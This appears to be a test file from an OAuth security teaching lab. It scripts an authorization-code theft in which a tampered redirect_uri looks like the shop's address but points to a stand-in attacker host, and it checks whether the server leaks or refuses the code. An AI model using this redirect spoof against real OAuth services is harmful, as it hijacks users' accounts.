import { expect } from '../stack.ts'
import { allow, choose, inbox, openMail, signIn, write } from './acts.ts'
import { doneByHand, doneInInspector } from './by-hand.ts'
import { changeHeld, hold, letGo, readMessage } from './inspector.ts'
import { at } from './place.ts'

/** Begins like the shop's, and is Mallory's. */
const address = () => `${at.shop}@${new URL(at.evil).host}/`

doneByHand('01', {
  byHand: async ({ mallory, alice }) => {
    await mallory.goto(`${at.shop}/spa/`)
    await mallory.getByRole('button', { name: 'Choose photos from CloudDrive' }).click()
    await mallory.getByLabel('Password').waitFor()
    const [, path = ''] = /GET (\/authorize\S+)/.exec(await readMessage(mallory, 'GET /authorize')) ?? []
    const link = new URL(path, at.auth)
    link.searchParams.set('redirect_uri', address())
    await write(mallory, link.href)
    await openMail(alice)
    if (await alice.getByLabel('Password').isHidden()) return alice
    await signIn(alice, 'alice')
    await allow(alice)
    await expect(alice.getByRole('heading', { name: 'Thank you!' })).toBeVisible()
    expect(await inbox(mallory)).toContain('GET /?code=')
    return mallory
  },
  lost: /A code of Alice’s, sent to evil\.localhost/,
  refused: /This link does not lead back to PrintShop/,
})

doneInInspector('01', {
  byHand: async ({ mallory, alice }) => {
    await hold(alice)
    await choose(alice)
    await changeHeld(alice, { redirect_uri: address() })
    if (await alice.getByLabel('Password').isHidden()) return alice
    await signIn(alice, 'alice')
    await allow(alice)
    // The code waits in the redirect: nobody has it but Alice.
    expect(await inbox(mallory)).toContain('Nothing yet.')
    await letGo(alice)
    await expect(alice.getByRole('heading', { name: 'Thank you!' })).toBeVisible()
    return alice
  },
  lost: /A code of Alice’s, sent to evil\.localhost/,
  refused: /This link does not lead back to PrintShop/,
})
